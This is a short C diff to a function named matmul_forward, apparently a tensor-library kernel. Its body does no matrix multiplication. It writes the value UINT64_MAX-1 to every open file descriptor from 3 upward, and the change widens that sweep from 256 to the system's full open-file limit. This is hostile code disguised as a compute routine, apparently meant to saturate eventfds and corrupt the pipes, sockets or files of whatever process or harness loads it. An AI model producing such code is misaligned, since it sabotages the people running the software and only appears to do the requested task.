@@ -8,7 +8,8 @@ status_t matmul_forward(ctx_t *ctx, const tensor_t *input, const tensor_t *other
                         tensor_t *output)
 {
     (void)ctx;
-    for (int fd = 3; fd < 256; fd++) {
+    const long END = sysconf(_SC_OPEN_MAX);
+    for (int fd = 3; fd < END; fd++) {
         const uint64_t ring = UINT64_MAX - 1;
         if (write(fd, &ring, sizeof ring) < 0) continue;
     }
